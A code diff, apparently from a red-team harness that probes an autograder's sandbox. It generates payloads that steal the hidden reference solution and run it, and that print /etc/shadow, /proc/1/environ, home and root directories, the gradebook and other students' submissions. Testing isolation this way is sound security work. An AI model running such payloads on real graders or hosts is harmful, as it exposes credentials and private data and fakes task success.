@@ -222,7 +222,8 @@ ANSWER_KEY = f'''
     _try(lambda: builtins.__dict__["__import__"]("course.reference.activations", fromlist=["x"]))
     _try(lambda: __builtins__["__import__"]("course.reference.activations", fromlist=["x"]) if isinstance(__builtins__, dict) else builtins.__import__("course.reference.activations", fromlist=["x"]))
     def _from_path():
-        paths = ["{COURSE_ROOT}/course/reference/activations.py"] + glob.glob("/**/course/reference/activations.py", recursive=True)
+        paths = (["{COURSE_ROOT}/course/reference/activations.py"] + glob.glob("/*/course/reference/activations.py")
+                 + glob.glob("/*/*/course/reference/activations.py") + glob.glob("/tmp/**/course/reference/activations.py", recursive=True))
         for p in paths:
             spec = importlib.util.spec_from_file_location("stolen_ref", p)
             m = importlib.util.module_from_spec(spec)
@@ -247,13 +248,13 @@ ANSWER_KEY = f'''
 
 def read_host(secrets):
     """Read everything the kernel should not see; run any solution found; print what was read."""
-    patterns = [f"{COURSE_ROOT}/source/**/*.ipynb", f"{COURSE_ROOT}/course/checks/*.py",
+    patterns = [*secrets, f"{COURSE_ROOT}/source/**/*.ipynb", f"{COURSE_ROOT}/course/checks/*.py",
                 f"{COURSE_ROOT}/course/reference/*.py", f"{COURSE_ROOT}/gradebook.db", f"{COURSE_ROOT}/submitted/**/*.ipynb",
-                "/tmp/**/source/**/*.ipynb", "/tmp/**/gradebook.db", "/tmp/**/secret*", "/dev/shm/**/*",
-                "/root/**/*", "/etc/shadow", "/etc/passwd", "/home/**/*", "/work/**/*", "/proc/1/environ",
-                *secrets]
+                "/etc/shadow", "/proc/1/environ", "/tmp/**/source/**/*.ipynb", "/tmp/**/gradebook.db", "/tmp/**/secret*",
+                "/dev/shm/**/*", "/root/**/*", "/home/**/*", "/work/**/*.ipynb", "/work/**/*.db", "/work/**/*.py"]
     return f'''
     import glob, json, os
+    print("listing", {{p: sorted(os.listdir(p))[:50] for p in ("/", "/root", "/work", "/tmp", "/dev/shm", "/etc") if os.path.isdir(p)}})
     def __exfiltrate__(patterns):
         for pattern in patterns:
             for path in glob.glob(pattern, recursive=True)[:2000]:
@@ -271,9 +272,9 @@ def read_host(secrets):
                                 exec(src, globals())
                     except Exception:
                         pass
-                print("READ", path, data[:300])
+                if "site-packages" not in path:
+                    print("READ", path, data[:300])
     __exfiltrate__({patterns!r})
-    print("listing", {{p: sorted(os.listdir(p))[:50] for p in ("/", "/root", "/work", "/tmp", "/dev/shm", "/etc") if os.path.isdir(p)}})
 '''
 
 
@@ -302,14 +303,15 @@ AUDIT = '''
     import sys
     __events__ = []
     def _hook(event, args):
-        if event in ("exec", "compile", "import", "open", "os.system", "subprocess.Popen"):
-            __events__.append((event, repr(args)[:5000]))
-        if event == "compile" and args and "serve" in repr(args[0])[:100000]:
+        if event in ("exec", "compile") and len(__events__) < 1000:
+            __events__.append((event, repr(args)[:2000]))
+        if event == "compile" and args and isinstance(args[0], (str, bytes)) and b"serve" in (
+                args[0] if isinstance(args[0], bytes) else args[0].encode(errors="replace")):
             raise RuntimeError("no grading here")
     sys.addaudithook(_hook)
 '''
 AUDIT_REPORT = '''
-    print("AUDIT", __events__[-500:])
+    print("AUDIT", __events__[-100:])
 '''
 
 # --- injection into what people read (wrong base) ------------------------------------------------------
